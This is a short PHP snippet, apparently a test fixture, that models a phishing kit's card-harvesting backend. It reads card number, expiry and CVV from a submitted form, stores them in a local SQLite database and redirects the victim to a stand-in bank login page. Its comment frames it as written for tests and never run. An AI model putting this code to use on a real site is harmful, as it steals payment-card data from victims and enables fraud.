<?php
// a kit keeps the cards it collects in its own database (written for the tests, never run)
$pdo = new PDO("sqlite:./cards.db");
$card = $_POST['cc'];
$exp = $_POST['exp'];
$cvv = $_POST['cvv'];
$row = array('cc' => $card, 'exp' => $exp, 'cvv' => $cvv);
$pdo->prepare('INSERT INTO cards (cc, exp, cvv) VALUES (:cc, :exp, :cvv)')->execute($row);
header('Location: https://bank.example/login');
